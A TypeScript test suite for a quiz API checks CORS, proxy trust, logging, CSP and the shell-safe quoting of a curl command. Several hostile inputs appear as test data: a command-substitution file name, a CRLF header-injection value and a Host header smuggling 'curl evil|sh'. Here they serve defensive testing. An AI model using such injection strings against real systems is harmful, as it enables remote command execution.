// Tests the service as a whole: header fields, config and the log.
import { execFileSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { CONFIG_ERRORS, type Service } from '@qb/http'
import { describe, expect, it } from 'vitest'
import { RESERVED_IDS } from './app.ts'
import { getQuestion } from './operations/get-question.ts'
import { OPERATIONS } from './operations/index.ts'
import { captureLog, makeApp, makeCsv } from './testing.ts'

describe('a JSON response', () => {
  it('forbids content sniffing, and allows scripts of every origin to read it', async () => {
    const app = await makeApp()
    for (const url of ['/api/v1/questions/stars', '/api/v1/questions/stars/random', '/api/v1/health']) {
      expect((await app.inject(url)).headers).toMatchObject({
        'x-content-type-options': 'nosniff',
        'access-control-allow-origin': '*',
        'access-control-expose-headers': expect.stringMatching(/ETag.*Link.*Retry-After.*RateLimit-/),
      })
    }
  })

  it('has no-store when the seed is generated', async () => {
    const app = await makeApp()
    for (const url of ['/api/v1/questions/stars', '/api/v1/questions/stars/random']) {
      expect((await app.inject(url)).headers['cache-control']).toBe('no-store')
    }
  })
})

describe('a CORS preflight request', () => {
  it('gets 204 on every path', async () => {
    const app = await makeApp()
    const headers = { origin: 'https://quiz.example', 'access-control-request-method': 'GET' }
    for (const url of ['/api/v1/questions/stars', '/nothing']) {
      const response = await app.inject({ method: 'OPTIONS', url, headers })
      expect(response.statusCode).toBe(204)
      expect(response.headers['access-control-allow-methods']).toBe('GET, HEAD, OPTIONS')
    }
    expect((await app.inject({ method: 'OPTIONS', url: '/api/v1/health' })).statusCode).toBe(204)
  })
})

describe('QUESTIONS_CORS_ORIGIN', () => {
  it('is the only allowed origin', async () => {
    const app = await makeApp({ environment: { QUESTIONS_CORS_ORIGIN: 'https://quiz.example' } })
    for (const url of ['/api/v1/questions/stars', '/nothing', '/%zz']) {
      expect((await app.inject(url)).headers['access-control-allow-origin']).toBe('https://quiz.example')
    }
  })

  it.each([
    ['https://quiz.example/', 'https://quiz.example'],
    ['HTTPS://Quiz.Example:443', 'https://quiz.example'],
    [' https://a.example , https://a.example/ ', 'https://a.example'],
  ])('accepts %j as the origin %s', async (value, origin) => {
    const app = await makeApp({ environment: { QUESTIONS_CORS_ORIGIN: value } })
    expect((await app.inject('/livez')).headers['access-control-allow-origin']).toBe(origin)
  })

  it('allows each origin of a list, and varies by Origin', async () => {
    const app = await makeApp({
      environment: { QUESTIONS_CORS_ORIGIN: 'https://a.example, http://b.example:8080/' },
    })
    for (const url of ['/api/v1/questions/stars', '/nothing', '/%zz']) {
      const headersFor = async (origin?: string) =>
        (await app.inject({ url, ...(origin && { headers: { origin } }) })).headers
      for (const origin of ['https://a.example', 'http://b.example:8080']) {
        const headers = await headersFor(origin)
        expect(headers['access-control-allow-origin'], url).toBe(origin)
        expect(headers.vary, url).toMatch(/origin/i)
      }
      expect(await headersFor('https://c.example'), url).not.toHaveProperty('access-control-allow-origin')
      expect((await headersFor()).vary, url).toMatch(/origin/i)
    }
  })

  it.each([
    'ж',
    'quiz.example',
    'https://a b',
    '*\r\nx: y',
    'https://a.example/quiz',
    'https://a.example,,',
    '*,https://a.example',
    'https://u:p@a.example',
  ])('rejects the value %j', async (origin) => {
    await expect(makeApp({ environment: { QUESTIONS_CORS_ORIGIN: origin } })).rejects.toMatchObject({
      code: CONFIG_ERRORS.invalid.code,
    })
  })
})

describe('TRUST_PROXY', () => {
  const statusFor = async (app: Service, forwarded: string) =>
    (await app.inject({ url: '/api/v1/health', headers: { 'x-forwarded-for': forwarded } })).statusCode

  it('counts clients by the last address in X-Forwarded-For', async () => {
    const app = await makeApp({ environment: { TRUST_PROXY: 'true', QUESTIONS_RATE_LIMIT_MAX: '1' } })
    expect(await statusFor(app, '6.6.6.1, 10.0.0.1')).toBe(200)
    expect(await statusFor(app, '6.6.6.2, 10.0.0.1')).toBe(429)
    expect(await statusFor(app, '10.0.0.2')).toBe(200)
  })

  it('can be the number of proxies, also for requests that reach no route', async () => {
    const environment = { TRUST_PROXY: '2', QUESTIONS_RATE_LIMIT_MAX: '1' }
    const app = await makeApp({ environment })
    expect(await statusFor(app, '6.6.6.1, 10.0.0.1, 10.9.9.9')).toBe(200)
    expect(await statusFor(app, '6.6.6.2, 10.0.0.1, 10.9.9.8')).toBe(429)
    expect(await statusFor(app, '10.0.0.2, 10.9.9.9')).toBe(200)
    const malformed = { url: '/%ff', headers: { 'x-forwarded-for': '6.6.6.3, 10.0.0.2, 10.9.9.7' } }
    expect((await app.inject(malformed)).statusCode).toBe(429)
  })

  it('is disabled by default', async () => {
    const app = await makeApp({ environment: { QUESTIONS_RATE_LIMIT_MAX: '1' } })
    expect(await statusFor(app, '10.0.0.1')).toBe(200)
    expect(await statusFor(app, '10.0.0.2')).toBe(429)
  })
})

describe('LOG_REQUESTS', () => {
  it('logs one line per request, without the query', async () => {
    const { lines, logger } = captureLog()
    const app = await makeApp({ environment: { LOG_REQUESTS: 'true' }, logger })
    await app.inject('/api/v1/questions/stars?seed=secret')
    expect(lines).toHaveLength(1)
    expect(lines[0]).toMatchObject({
      method: 'GET',
      path: '/api/v1/questions/stars',
      status: 200,
      ms: expect.any(Number),
    })
    expect(JSON.stringify(lines)).not.toContain('secret')
  })

  it('is disabled by default', async () => {
    const { lines, logger } = captureLog()
    await (await makeApp({ logger })).inject('/api/v1/questions/stars')
    expect(lines).toEqual([])
  })
})

describe('an HTML page', () => {
  it.each(['/', '/errors', '/docs', '/redoc', '/quiz/', '/quiz/index.html'])(
    '%s cannot load resources from other origins, and cannot be framed',
    async (url) => {
      const policy = String((await (await makeApp()).inject(url)).headers['content-security-policy'])
      for (const rule of [
        "default-src 'none'",
        "script-src 'self'",
        "connect-src 'self'",
        "frame-ancestors 'none'",
      ]) {
        expect(policy).toContain(rule)
      }
      expect(policy).not.toMatch(/https?:|upgrade-insecure-requests/)
    },
  )
})

describe('the request on the landing page', () => {
  it('is one word for a shell, whatever the name of the category', async () => {
    const app = await makeApp({ files: { "o'brien $(id);`id`.csv": makeCsv('S', 1) } })
    const { body } = await app.inject({ url: '/', headers: { host: 'quiz.example:1' } })
    const line = /<code>(curl .*)<\/code>/.exec(body.replaceAll('<wbr>', ''))?.[1] ?? ''
    const command = line.replaceAll('&quot;', '"').replaceAll('&lt;', '<').replaceAll('&amp;', '&')
    const shown = execFileSync('sh', ['-c', `curl() { printf '%s\\n' "$@"; }\n${command}`]).toString()
    expect(shown).toMatch(/^http:\/\/quiz\.example:1\/api\/v1\/questions\/o'brien_\S+\n$/)
    const { pathname, search } = new URL(shown.trim())
    expect((await app.inject(pathname + search)).statusCode).toBe(200)
  })

  it('has no host or protocol that a client can make up', async () => {
    const app = await makeApp({ environment: { TRUST_PROXY: 'true' } })
    for (const [name, value] of [
      ['host', `x';curl evil|sh;'`],
      ['x-forwarded-host', `x';curl evil|sh;'`],
      ['x-forwarded-proto', 'javascript'],
    ] as const) {
      const { statusCode, body } = await app.inject({ url: '/', headers: { [name]: value } })
      expect([name, statusCode]).toEqual([name, 400])
      expect(body).not.toMatch(/evil|javascript/)
    }
    const headers = { 'x-forwarded-host': 'quiz.example', 'x-forwarded-proto': 'https' }
    const { body } = await app.inject({ url: '/', headers })
    expect(body.replaceAll('<wbr>', '')).toContain('https://quiz.example/api')
  })
})

describe('external-resources/README.md', () => {
  it('lists the reserved ids, which are segments of paths', () => {
    const readme = readFileSync(new URL('../../../external-resources/README.md', import.meta.url), 'utf8')
    const [, listed = ''] = /((?:`[^`]+`(?:, | and )?)+) are\s+reserved/.exec(readme) ?? []
    const ids = [...listed.matchAll(/`([^`]+)`/g)].map(([, id]) => id)
    expect(ids.toSorted()).toEqual([...RESERVED_IDS, '.', '..'].toSorted())
    const prefix = getQuestion.path.replace('{id}', '')
    const beside = OPERATIONS.filter(({ path }) => path.startsWith(prefix))
      .map(({ path }) => path.slice(prefix.length).split('/')[0] ?? '')
      .filter((segment) => !segment.startsWith('{'))
    expect(beside).toEqual(RESERVED_IDS)
  })
})
